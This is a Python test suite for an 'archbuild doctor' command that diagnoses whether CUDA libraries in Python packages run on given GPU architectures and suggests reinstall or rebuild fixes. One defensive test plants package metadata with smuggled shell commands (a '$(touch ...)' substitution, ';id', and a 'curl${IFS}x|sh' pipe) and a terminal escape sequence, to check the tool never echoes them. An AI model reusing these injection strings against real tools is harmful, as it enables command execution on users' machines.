"""`archbuild doctor` on fixture site-packages (nvcc-built libraries in package
folders, a stand-in torch) and on a real torch wheel from PyPI."""
import json
import os
import subprocess
import sys
import unittest

from harness import SYSTEM_NVCC, nvcc, run, scratch_dir, torch_venv

KERNEL = "__global__ void k(float* x) { x[threadIdx.x] *= 2.f; }\n"


def write_torch(root, version="2.9.1+cu130", cuda="13.0", arch=("compute_80", "sm_80"), import_error=True):
    """A stand-in torch: version.py as PyTorch writes it, a CUDA library built by nvcc."""
    package = root / "torch"
    (package / "lib").mkdir(parents=True)
    (package / "__init__.py").write_text(
        'raise ImportError("libcudart.so.13: cannot open shared object file: No such file or directory")\n'
        if import_error else "__version__ = %r\n" % version)
    cuda_text = "None" if cuda is None else repr(cuda)
    (package / "version.py").write_text(
        "from typing import Optional\n\n__version__ = %r\ndebug = False\ncuda: Optional[str] = %s\n" % (version, cuda_text))
    build_library(root, package / "lib" / "libtorch_cuda.so", arch)
    return package


def build_library(root, target, arch):
    source = root / "k.cu"
    source.write_text(KERNEL)
    target.parent.mkdir(parents=True, exist_ok=True)
    nvcc("-shared", "-Xcompiler", "-fPIC", "-gencode", f"arch={arch[0]},code={arch[1]}", "-o", str(target), str(source))
    source.unlink()


@unittest.skipUnless(SYSTEM_NVCC.exists(), "needs nvcc 13 at /usr/local/cuda")
class DoctorOnFixtures(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.venv = scratch_dir(cls) / "venv"
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(cls.venv)], check=True)
        cls.python = str(cls.venv / "bin" / "python")

    def doctor(self, fixture_dirs, *args, env=None):
        full_env = {"PYTHONPATH": os.pathsep.join(map(str, fixture_dirs)), "ARCHBUILD_FAKE_GPUS": None}
        full_env.update(env or {})
        result = run("doctor", "--python", self.python, "--json", *args, env=full_env)
        try:
            report = json.loads(result.stdout)
        except json.JSONDecodeError:
            self.fail(f"not JSON (rc {result.returncode}):\n{result.stdout}\n{result.stderr}")
        return result, report

    def packages(self, report):
        return {p["name"]: p for p in report["interpreters"][0]["packages"]}

    def fixture(self):
        site = scratch_dir(self) / "site"
        write_torch(site)
        build_library(site, site / "myext" / "_C.so", ("compute_80", "compute_80"))  # PTX only
        (site / "myext" / "__init__.py").write_text("")
        build_library(site, site / "nvidia" / "fakelib" / "lib" / "libfake.so", ("compute_90", "sm_90"))
        return site

    def test_verdicts_per_package_and_device(self):
        site = self.fixture()
        result, report = self.doctor([site], "--device-cc", "8.6")
        self.assertEqual(result.returncode, 0, result.stderr)  # nvidia/fakelib is shown, not judged
        interpreter = report["interpreters"][0]
        self.assertEqual(interpreter["torch_version"], "2.9.1+cu130")
        self.assertEqual(interpreter["torch_cuda"], "13.0")
        self.assertFalse(interpreter["import_ok"])
        self.assertIn("libcudart.so.13", interpreter["import_error"])
        packages = self.packages(report)
        self.assertEqual(packages["torch"]["verdict"], "ok")          # sm_80 runs on 8.6
        self.assertEqual(packages["myext"]["verdict"], "ptx-jit")     # compute_80 JITs on 8.6
        # one verdict in text and JSON: not judged; what its fatbins alone say stays per file
        self.assertEqual(packages["nvidia/fakelib"]["verdict"], "not-judged")
        self.assertFalse(packages["nvidia/fakelib"]["judged"])
        self.assertEqual(packages["nvidia/fakelib"]["problems"], [])
        self.assertEqual(packages["nvidia/fakelib"]["files"][0]["verdicts"], {"8.6": "no-kernel-image"})
        self.assertEqual(packages["torch"]["files"][0]["sass"], {"sm_80": 2})  # nvcc -shared: two containers

    def test_no_kernel_image_names_the_fix(self):
        site = self.fixture()
        result, report = self.doctor([site], "--device-cc", "9.0")
        self.assertEqual(result.returncode, 1)
        torch = self.packages(report)["torch"]
        self.assertEqual(torch["verdict"], "no-kernel-image")
        # cheapest first: the newest official build holding sm_90, then the source build
        self.assertEqual([f["kind"] for f in torch["fixes"]], ["official-build", "source-build"])
        self.assertRegex(torch["fixes"][0]["lines"][0],
                         r"^pip install torch==2\.\d+\.\d+ --index-url https://download\.pytorch\.org/whl/cu1\d\d$")
        self.assertEqual(torch["fixes"][1]["lines"], ["archbuild torch --arch 9.0 --ref v2.9.1"])
        self.assertIn("libtorch_cuda.so has no kernel image for CC 9.0", torch["problems"][0])
        self.assertEqual(self.packages(report)["nvidia/fakelib"]["verdict"], "not-judged")
        self.assertEqual(self.packages(report)["nvidia/fakelib"]["files"][0]["verdicts"], {"9.0": "native"})
        result, report = self.doctor([site], "--device-cc", "7.5")
        myext = self.packages(report)["myext"]
        self.assertEqual(myext["verdict"], "no-kernel-image")
        # no *.dist-info names it: said plainly, never a placeholder to run
        self.assertEqual(myext["fixes"][0]["lines"], [])
        self.assertIn("archbuild cannot tell which project and release it is", myext["fixes"][0]["why"])

    def test_a_package_with_metadata_gets_a_runnable_source_and_its_cuda_variant(self):
        site = self.fixture()
        # a project that publishes one distribution per CUDA major, built with CUDA 13 (no Pascal)
        build_library(site, site / "cupyish" / "_core.so", ("compute_75", "sm_75"))
        (site / "cupyish" / "__init__.py").write_text("")
        info = site / "cupyish_cuda13x-13.6.0.dist-info"
        info.mkdir()
        (info / "METADATA").write_text("Metadata-Version: 2.1\nName: cupyish-cuda13x\nVersion: 13.6.0\n"
                                       "Project-URL: Bug Tracker, https://github.com/example/cupyish/issues\n"
                                       "Project-URL: Source, https://github.com/example/cupyish/tree/main\n\nbody\n")
        (info / "top_level.txt").write_text("cupyish\n")
        result, report = self.doctor([site], "--device-cc", "6.1")
        fixes = self.packages(report)["cupyish"]["fixes"]
        self.assertEqual([f["kind"] for f in fixes], ["official-variant", "source-build"], fixes)
        self.assertEqual(fixes[0]["lines"], ["pip uninstall -y cupyish-cuda13x && pip install cupyish-cuda12x"])
        self.assertEqual(fixes[1]["lines"], ["archbuild build pypi:cupyish-cuda13x==13.6.0 --arch 6.1 --cuda 12.9",
                                             "archbuild build https://github.com/example/cupyish --arch 6.1 --cuda 12.9"])

    def test_hostile_metadata_prints_no_command_and_no_escape(self):
        site = self.fixture()
        build_library(site, site / "evil" / "_C.so", ("compute_75", "sm_75"))
        info = site / "evil-1.0.dist-info"
        info.mkdir()
        (info / "METADATA").write_text("Name: evil-cu13-$(touch /tmp/x)\nVersion: 1.0;id\n"
                                       "Project-URL: Source, https://github.com/a/b;curl${IFS}x|sh\n\n")
        (info / "top_level.txt").write_text("evil\n")
        escape = site / "esc\x1b]0;TITLE\x07"
        build_library(site, escape / "_C.so", ("compute_75", "sm_75"))
        result = run("doctor", "--python", self.python, "--device-cc", "6.1",
                     env={"PYTHONPATH": str(site), "ARCHBUILD_FAKE_GPUS": None, "NO_COLOR": "1"})
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertNotIn("touch /tmp/x", result.stdout)
        self.assertNotIn("curl", result.stdout)
        self.assertIn("names no valid project and version", result.stdout)
        self.assertNotIn("\x1b", result.stdout)  # shown as \xNN
        self.assertIn("esc\\x1b]0;TITLE\\x07", result.stdout)

    def test_matrix_for_devices_and_a_fleet_driver(self):
        site = self.fixture()
        result = run("doctor", "--python", self.python, "--matrix", "--device-cc", "6.1", "--device-cc", "9.0",
                     "--driver", "570.26", "--machine", "x86_64", "--json", env={"PYTHONPATH": str(site), "ARCHBUILD_FAKE_GPUS": None})
        self.assertEqual(result.returncode, 0, result.stderr)
        matrix = json.loads(result.stdout)["matrix"]
        self.assertEqual(matrix["devices"], ["6.1", "9.0"])
        self.assertEqual(matrix["driver_cuda"], "12.8")  # 570.26 is CUDA 12.8's driver
        cells = {row["build"]: row["cells"] for row in matrix["rows"]}
        self.assertEqual(cells["torch 2.11.0+cu126"], ["native", "native"])
        self.assertEqual(cells["torch 2.11.0+cu130"], ["no-kernel-image", "driver-too-old"])
        text = run("doctor", "--python", self.python, "--matrix", "--device-cc", "12.1", "--machine", "x86_64",
                   env={"PYTHONPATH": str(site), "ARCHBUILD_FAKE_GPUS": None, "NO_COLOR": "1"})
        self.assertEqual(text.returncode, 0, text.stderr)
        self.assertRegex(text.stdout, r"torch 2\.11\.0\+cu130 +native +https://download\.pytorch\.org/whl/cu130")
        self.assertRegex(text.stdout, r"torch 2\.11\.0\+cu126 +no-kernel-image")
        bad = run("doctor", "--python", self.python, "--matrix", "--device-cc", "9.0", "--driver", "banana",
                  env={"ARCHBUILD_FAKE_GPUS": None})
        self.assertEqual(bad.returncode, 2)
        self.assertIn("--driver banana: not a driver version", bad.stderr)

    def test_aarch64_hosts_get_the_aarch64_wheels(self):
        # Jetson Thor (11.0) and GB10 (12.1): only the aarch64 wheels carry sm_110,
        # and those are what installs into an aarch64 interpreter.
        site = self.fixture()
        env = {"PYTHONPATH": str(site), "ARCHBUILD_FAKE_GPUS": None}
        fixes = {}
        for machine in ("aarch64", "x86_64"):
            result = run("doctor", "--python", self.python, "--device-cc", "11.0", "--machine", machine, "--json",
                         env=env)
            self.assertEqual(result.returncode, 1, result.stderr)
            torch = next(p for p in json.loads(result.stdout)["interpreters"][0]["packages"] if p["name"] == "torch")
            fixes[machine] = torch["fixes"]
        self.assertEqual(fixes["aarch64"][0]["kind"], "official-build", fixes["aarch64"])
        self.assertRegex(fixes["aarch64"][0]["why"], r"torch 2\.11\.0\+cu130")
        self.assertIn("--index-url https://download.pytorch.org/whl/cu130", fixes["aarch64"][0]["lines"][0])
        self.assertEqual(fixes["x86_64"][0]["lines"], [], fixes["x86_64"])  # "none: ... runs natively on CC 11.0"
        self.assertTrue(fixes["x86_64"][0]["why"].startswith("none"), fixes["x86_64"])
        matrix = run("doctor", "--python", self.python, "--matrix", "--device-cc", "11.0", "--device-cc", "12.1",
                     "--machine", "aarch64", "--json", env=env)
        self.assertEqual(matrix.returncode, 0, matrix.stderr)
        cells = {row["build"]: row["cells"] for row in json.loads(matrix.stdout)["matrix"]["rows"]}
        self.assertEqual(cells["torch 2.11.0+cu130"], ["native", "native"])
        self.assertEqual(cells["torch 2.11.0+cu128"], ["no-kernel-image", "native"])
        self.assertNotIn("torch 2.13.0+cu126", cells)  # no aarch64 rows for releases not read
        self.assertEqual(run("doctor", "--machine", "arm64", "--device-cc", "9.0", env=env).returncode, 2)

    def test_plain_output_says_verdict_and_fix(self):
        site = self.fixture()
        result = run("doctor", "--python", self.python, "--device-cc", "9.0",
                     env={"PYTHONPATH": str(site), "ARCHBUILD_FAKE_GPUS": None})
        self.assertEqual(result.returncode, 1)
        self.assertIn("no-kernel-image", result.stdout)
        self.assertRegex(result.stdout, r"not-judged +nvidia/fakelib")  # the word --json gives
        self.assertRegex(result.stdout, r"1\. official build: torch 2\.\d+\.\d+\+cu1\d\d \(the newest official build")
        self.assertIn("2. source build: ", result.stdout)
        self.assertIn("fix: archbuild torch --arch 9.0 --ref v2.9.1", result.stdout)
        self.assertIn("import      FAILED", result.stdout)
        self.assertIn("verdict: problem found", result.stdout)

    def test_driver_too_old(self):
        site = self.fixture()
        gpu = {"ARCHBUILD_FAKE_GPUS": "NVIDIA H200:9.0:143771", "ARCHBUILD_FAKE_DRIVER_CUDA": "12.8"}
        result, report = self.doctor([site], env=gpu)
        self.assertEqual(result.returncode, 1)
        findings = report["interpreters"][0]["findings"]
        self.assertTrue(any(f["problem"] and "580.65.06" in f["fix"] for f in findings), findings)
        # PTX from a newer CUDA than the driver's cannot JIT
        site2 = scratch_dir(self) / "site"
        write_torch(site2, cuda="13.2", arch=("compute_80", "compute_80"))
        gpu["ARCHBUILD_FAKE_DRIVER_CUDA"] = "13.0"
        result, report = self.doctor([site2], env=gpu)
        self.assertEqual(self.packages(report)["torch"]["verdict"], "driver-too-old")
        self.assertEqual(result.returncode, 1)

    def test_mixed_environment(self):
        first = scratch_dir(self) / "user-site"
        write_torch(first, version="2.8.0+cu128", cuda="12.8", arch=("compute_90", "sm_90"))
        second = self.fixture()
        result, report = self.doctor([first, second], "--device-cc", "9.0")
        interpreter = report["interpreters"][0]
        self.assertEqual(interpreter["torch_version"], "2.8.0+cu128")  # the first on sys.path wins
        self.assertEqual(len(interpreter["torch_dirs"]), 2)
        messages = "\n".join(f["message"] for f in interpreter["findings"])
        self.assertIn("2 torch installs", messages)
        self.assertIn("(shadowed)", messages)
        self.assertIn("nvcc on PATH is CUDA 13.0 but torch uses CUDA 12.8", messages)

    def test_nothing_to_diagnose(self):
        result, report = self.doctor([], "--device-cc", "9.0")
        self.assertEqual(result.returncode, 3)
        self.assertEqual(report["verdict"], "nothing-to-diagnose")
        result = run("doctor", "--python", "/nonexistent/python3", "--device-cc", "9.0")
        self.assertEqual(result.returncode, 3)
        self.assertIn("not found", result.stderr)

    def test_no_gpu_and_no_device_cc(self):
        result = run("doctor", "--python", self.python, env={"ARCHBUILD_FAKE_GPUS": None})
        if "CC " in result.stdout.splitlines()[0] and "--device-cc" not in result.stdout.splitlines()[0]:
            self.skipTest("this machine has a GPU")
        self.assertEqual(result.returncode, 3)
        self.assertIn("--device-cc", result.stderr)

    def test_several_interpreters(self):
        site = self.fixture()
        result = run("doctor", "--python", self.python, "--python", sys.executable, "--device-cc", "8.6", "--json",
                     env={"PYTHONPATH": str(site), "ARCHBUILD_FAKE_GPUS": None})
        report = json.loads(result.stdout)
        self.assertEqual(len(report["interpreters"]), 2)


class DoctorOnRealTorch(unittest.TestCase):
    """torch 2.11.0+cu130 from PyPI, installed without its CUDA dependencies."""

    def test_ok_on_hopper_and_fix_for_pascal(self):
        python = str(torch_venv())
        result = run("doctor", "--python", python, "--device-cc", "9.0", "--json", env={"ARCHBUILD_FAKE_GPUS": None})
        report = json.loads(result.stdout)
        self.assertEqual(result.returncode, 0, result.stdout)
        interpreter = report["interpreters"][0]
        self.assertEqual(interpreter["torch_version"], "2.11.0+cu130")
        self.assertFalse(interpreter["import_ok"])  # CUDA libraries not installed
        packages = {p["name"]: p for p in interpreter["packages"]}
        self.assertEqual(packages["torch"]["verdict"], "ok")
        self.assertEqual(len(packages["torch"]["files"]), 3)

        result = run("doctor", "--python", python, "--device-cc", "6.1", env={"ARCHBUILD_FAKE_GPUS": None})
        self.assertEqual(result.returncode, 1)
        self.assertIn("no-kernel-image", result.stdout)
        # CUDA 13 dropped Pascal: an official CUDA 12.6 build still holds sm_60, minutes instead of hours
        self.assertRegex(result.stdout, r"1\. official build: torch 2\.\d+\.\d+\+cu126 .*holds sm_60 for CC 6\.1")
        self.assertRegex(result.stdout, r"fix: pip install torch==2\.\d+\.\d+ --index-url https://download\.pytorch\.org/whl/cu126")
        self.assertRegex(result.stdout, r"fix: uv pip install torch==2\.\d+\.\d+ --torch-backend=cu126")
        # then the source build, naming the last toolkit that can build it
        self.assertIn("fix: archbuild torch --arch 6.1 --ref v2.11.0 --cuda 12.9", result.stdout)
        self.assertLess(result.stdout.index("--whl/cu126".replace("--", "")), result.stdout.index("archbuild torch --arch"))


if __name__ == "__main__":
    unittest.main()
